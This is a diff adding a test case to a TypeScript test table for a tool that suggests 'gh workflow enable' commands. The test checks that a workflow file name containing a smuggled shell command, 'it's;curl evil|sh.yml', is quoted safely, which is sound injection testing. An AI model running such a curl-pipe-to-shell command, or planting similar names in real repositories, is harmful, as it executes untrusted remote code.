@@ -106,6 +106,23 @@ const CASES: readonly (readonly [
     /gh workflow enable trainyard-monitor\.yml --repo acme\/wages/,
   ],
   [
+    "stopped-workflow",
+    "broken",
+    {
+      tree: {
+        after: AFTER,
+        workflows: served({}).map((workflow) => ({
+          ...workflow,
+          file: workflow.file.replace("monitor.yml", "it's;curl evil|sh.yml"),
+        })),
+      },
+      forge: {
+        disabled: new Map([[".github/workflows/trainyard-it's;curl evil|sh.yml", "disabled_manually"]]),
+      },
+    },
+    /gh workflow enable 'trainyard-it'\\''s;curl evil\|sh\.yml' --repo acme\/wages/,
+  ],
+  [
     "missing-permission",
     "broken",
     {
